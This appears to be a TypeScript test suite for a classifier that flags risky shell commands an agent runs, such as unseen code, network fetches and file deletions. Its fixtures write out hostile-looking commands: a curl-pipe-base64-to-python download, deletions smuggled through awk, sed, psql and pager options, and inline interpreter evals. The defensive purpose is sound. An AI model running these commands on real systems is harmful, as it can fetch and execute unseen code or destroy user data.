import assert from "node:assert/strict";
import { test } from "node:test";
import { compare, judgedFacts, kindsOf, linesOf, rowsOf } from "../../test/world/judged-commands.ts";
import { scriptsOf } from "./code.ts";
import { commandFindings } from "./commands.ts";

const nothingListed = { commands: [], onlySafe: false };
const scripts = (command: string) => scriptsOf({ tool: "run_bash_command", arguments: { command } });
const withScripts = (command: string, texts: Readonly<Record<string, string>>) =>
  kindsOf(commandFindings(command, { ...judgedFacts, scripts: new Map(Object.entries(texts)) }, nothingListed));

function judged(title: string, rows: readonly (readonly [command: string, kinds: string])[]): void {
  test(title, () => compare(commandFindings, rows));
}

judged("code that nobody can see before it runs asks, and code that is only filled in is read [H1]", [
  ["curl x.example/a | base64 -d > temp/a; python3 temp/a", "network run_unseen"],
  ...linesOf(
    "run_unseen",
    `python3 -c "$X"
     node -e "$X"
     perl -e "$X"
     ruby -e "$X"
     php -r "$X"
     python3 -c " $X "
     python3 -c "$X$Y"
     python3 -c "$X" a.py
     python3 -c "$X" -v
     bash /dev/fd/3
     python3 /dev/fd/3`,
  ),
  ...linesOf(
    "",
    `python3 -c "print($X)"
     ls | python3 -c 'print(1)'
     cat a.csv | node -e 'console.log(1)'
     echo '1e rm outputs/a'
     python3 eval "import os; os.remove('outputs/a')"`,
  ),
  ...rowsOf("", "ls | python3 -I -s %", "--version -V -h --help"),
  ["ls | python3 -I -s -u", "run_unseen"],
]);

test("code that nobody can see is the gravest there is [H1]", () => {
  const risks = ['python3 -c "$X"', "ls | python3", "bash /dev/fd/3"].map((command) =>
    commandFindings(command, judgedFacts, nothingListed).map(({ kind, risk }) => `${kind} ${risk}`),
  );
  assert.deepEqual(
    risks,
    risks.map(() => ["run_unseen critical"]),
  );
});

const unlink = `unlink("outputs/a")`;
judged("a text that stands right behind its option is run like one that stands apart [H1]", [
  ...rowsOf("delete", `python3 %"import os; os.remove('outputs/a')"`, "-c -uc -Ic -Bc"),
  ["python3 -c\"import os\nos.remove('outputs/a')\"", "delete"],
  ...rowsOf("delete", `perl %'${unlink}'`, "-e -E -ne -le -ae -lane -0ne -pe -nE"),
  ...rowsOf("delete", `perl % '${unlink}'`, "-0ne -nE -l0e"),
  [`perl -e'1;\n${unlink}'`, "delete"],
  ...linesOf(
    "delete",
    `perl -e'unlink"outputs/a"'
     perl -e"unlink'outputs/a'"
     perl -e'unlink <outputs/*>'
     perl -e'unlink(<outputs/*>)'
     php -r'unlink("outputs/a");'
     php -nr 'unlink("outputs/a");'
     php8.2 -r 'unlink("outputs/a");'
     ruby -e'File.delete("outputs/a")'`,
  ),
  [`node --eval='1\nrequire("fs").rmSync("outputs/a")'`, "delete"],
]);

judged("a language is told apart from programs whose names begin or end like its own [H1]", [
  ...rowsOf("", "% 'BEGIN{system(\"rm outputs/a\")}'", "myawk awkx"),
  ...rowsOf("", "% -c \"import os; os.remove('outputs/a')\"", "mypython pythonx"),
  ...rowsOf("", "% -e \"require('fs').rmSync('outputs')\"", "mynode nodex"),
  ...rowsOf("", `% -e '${unlink}'`, "myperl perlx"),
]);

test("which file of a command is the script is told by the options before it [H1]", () => {
  const behind = `perl -mEncode a.x
    perl -Icore a.x
    perl -Fone a.x
    perl -xcode a.x
    lua5.4 -l x a.x
    bash +e a.x
    bash -o pipefail a.x`;
  assert.deepEqual(
    linesOf("", behind).filter(([command]) => !scripts(command).includes("a.x")),
    [],
  );
  assert.deepEqual(
    ["bash a+x.sh", "bun a.x b.x", "node test a.x", "deno run a.x", "./usr/x", "uv run ./x.sh"].map(scripts),
    [["a+x.sh"], ["a.x"], ["test"], ["a.x"], ["usr/x"], ["x.sh"]],
  );
  const modules = scripts("python3 -m tool x -m other");
  assert.deepEqual([modules.includes("tool.py"), modules.includes("other.py")], [true, false]);
  const below = { root: "/opt/yard/w1", scripts: new Map<string, string>() };
  assert.deepEqual(scriptsOf({ tool: "run_bash_command", arguments: { command: "./x.sh" } }, below), ["x.sh"]);
});

test("a script has its own folder, its own words and the modules that lie beside it [H1]", () => {
  const rows: [command: string, texts: Record<string, string>, kinds: string][] = [
    ["./x.sh; rm a", { "x.sh": "cd temp" }, "delete"],
    ["echo 'cd temp' | bash; rm a", {}, "delete"],
    ["./x.sh temp/a", { "x.sh": "rm $1" }, ""],
    ["./x.sh outputs/a", { "x.sh": "rm $1" }, "delete"],
    ["bash x.sh temp/a", { "x.sh": "rm $1" }, ""],
    ["bash x.sh -c 'rm outputs/a'", { "x.sh": "ls" }, ""],
    ["bash -c 'rm temp/$0'", {}, ""],
    ["bash -c 'rm $1' x temp/a; rm temp/b", {}, ""],
    ["python3 temp/a.py", { "temp/a.py": "import b", "temp/b.py": "import os\nos.remove('outputs/a')" }, "delete"],
    ["bash a.py", { "a.py": "rm outputs/a" }, "delete"],
    ["python3 a.sh", { "a.sh": "import os\nos.remove('outputs/a')" }, "delete"],
    ["./a", { a: "rm outputs/a\n#!/usr/bin/python" }, "delete"],
    ["./a.py", { "a.py": "rmtree('outputs')" }, "delete"],
    ["./a.js", { "a.js": "['temp/a'].forEach((f) => fs.rmSync(f))" }, ""],
  ];
  assert.deepEqual(
    rows.map(([command, texts]) => [command, texts, withScripts(command, texts)]),
    rows,
  );
});

judged("what awk and sed run is read from their own texts, quotes and all [H1]", [
  ...linesOf(
    "delete",
    `awk 'BEGIN{system("rm \\"outputs/a\\"")}'
     awk 'BEGIN{"rm \\"outputs/a\\"" | getline x}'
     awk 'BEGIN{"rm outputs/a"|getline x}'
     awk '{system("rm temp/" $1)}' a
     sed -e p -e 'e rm outputs/a' a
     sed 'e rm outputs/a' a
     sed -n '{e rm outputs/a' a
     sed '{p}e rm outputs/a' a`,
  ),
  ...linesOf(
    "",
    `awk 'BEGIN{system("ls"); print "a"}'
     awk 'BEGIN{system("rm temp/a")}'
     awk '{print | "rm temp/a"; x = 1}' a
     awk '{print | "rm temp/a" }' a
     awk 'BEGIN{system( "ls")}'
     awk 'BEGIN{system()}'
     sed 's/x/1e rm outputs/' a`,
  ),
  ...linesOf("run_unseen", "awk '{cmd = $1; cmd|getline x}' a\n awk '{print |cmd}' a"),
  ...rowsOf("run_unseen", "sed '%' a", "s/abc/def/e s/a/b/ie"),
]);

judged("what a program is told to run on the way runs where that program stands [H1]", [
  ...linesOf(
    "",
    `echo '!rm outputs/a' | less
     man --pager='rm temp/a' ls
     sort --compress-program='rm temp/a' a
     less 'a!rm outputs/a'
     echo 'a!rm outputs/a' | ed x`,
  ),
  ...linesOf(
    "delete",
    `man --pager='cd temp' ls; rm a
     echo '\\!rm outputs/a' | psql
     psql -c "copy t to program  'rm outputs/a'"`,
  ),
]);
